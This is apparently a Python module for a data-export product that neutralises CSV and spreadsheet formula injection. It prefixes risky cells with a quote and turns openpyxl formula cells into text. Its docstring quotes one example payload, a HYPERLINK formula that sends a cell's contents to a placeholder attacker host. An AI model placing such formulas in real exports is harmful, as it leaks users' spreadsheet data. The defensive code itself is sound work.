"""Cells a spreadsheet can open safely: user text is never a formula (CSV and formula injection).

A school or planning-area name such as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` becomes a
live formula when a spreadsheet opens the file, and can leak the sheet or run a command through
DDE. Two rules keep every export inert:

- **CSV** (:func:`csv_cell`, :func:`csv_frame`): the OWASP rule for CSV injection. A text cell
  starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front,
  which spreadsheets show and never evaluate. Numbers are numbers (a negative number keeps its
  minus), and so is text that is only a number, such as ``-3`` or ``+44``, which no spreadsheet
  reads as a formula. The csv module quotes cells with commas, quotes and line feeds, but not a bare
  carriage return, which readers take for the end of a row: a carriage return inside text is
  written as a line feed (``\r\n`` as one), so a cell can neither start a formula nor a new row.
- **XLSX** (:func:`text_only`): every text cell is written as text. openpyxl stores a value
  starting with ``=`` as a formula; the product writes no formula of its own, so before a workbook
  is saved each cell openpyxl took for a formula is turned back into the text it was given.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_START", "csv_cell", "csv_frame", "csv_row", "text_only"]

#: First characters a spreadsheet may read as the start of a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """``value`` safe for a CSV cell: text that a spreadsheet would read as a formula gets a leading quote."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value


def csv_row(values: Any) -> list[Any]:
    """Every cell of a row through :func:`csv_cell`."""
    return [csv_cell(v) for v in values]


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with its text cells and column names through :func:`csv_cell`; number columns untouched.

    Use it on every frame written with ``to_csv`` (a test checks the product has no other ``to_csv``)."""
    import pandas as pd

    out = frame.rename(columns=lambda c: csv_cell(c) if isinstance(c, str) else c)
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            risky = series.map(lambda v: isinstance(v, str) and (v.startswith(FORMULA_START) or "\r" in v))
            if risky.any():
                out[column] = series.map(csv_cell)
    return out


def text_only(book: Any) -> Any:
    """Every cell of an openpyxl workbook that openpyxl took for a formula written as the text it was given;
    the workbook, for chaining. Call it just before saving."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return book
